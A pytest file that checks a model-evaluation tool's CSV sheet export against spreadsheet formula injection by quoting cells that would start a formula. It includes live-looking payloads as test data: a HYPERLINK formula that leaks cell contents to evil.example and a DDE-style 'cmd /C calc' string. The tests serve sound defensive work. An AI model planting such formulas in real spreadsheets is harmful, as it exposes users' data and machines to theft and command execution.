"""The judge-agreement sheet is opened in a spreadsheet: an answer beginning ``=HYPERLINK(…)`` was written
unchanged, a live formula there. Cells that would start a formula are written behind a single quote
(OWASP's advice against CSV injection), and the sheet reads back to the same models, ids and grades."""

from __future__ import annotations

import codecs
import csv
import io

import pytest

from clue_tasks_superclue.compare.sheet import HUMAN, neutralised, read_back
from tests.compare.fixtures import read_comparison, record, write_run

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'


def _run(root, model: str):
    records = []
    for qid, answer in (("+1", EVIL), ("q2", "@SUM(1+1)*cmd|' /C calc'!A0"), ("q3", "-2+3"), ("q4", "\tx"),
                        ("q5", "'quoted"), ("q6", "普通的回答")):
        item = record(qid, "计算", 7.0)
        item["prediction"] = answer
        item["raw"]["answers"] = [answer]
        records.append(item)
    return write_run(root, model, [], records=records)


def _rows(sheet):
    raw = sheet.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'x", "''x"), ("a=1", "a=1"), ("回答", "回答"), ("", ""),
])
def test_neutralised_cells_read_back_as_written(cell: str, written: str) -> None:
    assert neutralised(cell) == written and read_back(written) == cell


def test_the_exported_sheet_holds_no_formula_and_reads_back(compare, tmp_path) -> None:
    ref, other = _run(tmp_path / "ref", "ref"), _run(tmp_path / "m", "-model")
    sheet = tmp_path / "sheet.csv"
    result = compare(other, "--reference", ref, "-o", tmp_path / "out", "--export-sheet", sheet)
    assert result.exit_code == 0, result.output
    rows = _rows(sheet)
    header, body = rows[0], rows[1:]
    assert len(body) == 12
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    answers = {row[header.index("answer")] for row in body}
    assert f"'{EVIL}" in answers and "'-2+3" in answers and "''quoted" in answers and "普通的回答" in answers
    assert {row[header.index("model")] for row in body} == {"ref", "'-model"}
    assert "'+1" in {row[header.index("id")] for row in body}
    # people grade it and save it: the quoted model and id are found again
    for row in body:
        row[header.index(HUMAN)] = "良好"
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([header, *body])
    back = compare(other, "--reference", ref, "-o", tmp_path / "out2", "--import-sheet", filled)
    assert back.exit_code == 0, back.output
    agreement = read_comparison(tmp_path / "out2")["judge_agreement"]
    assert agreement["graded"] == 12 and set(agreement["by_model"]) == {"ref", "-model"}
    assert "is not the run's" not in back.output  # the judge grades read back as exported
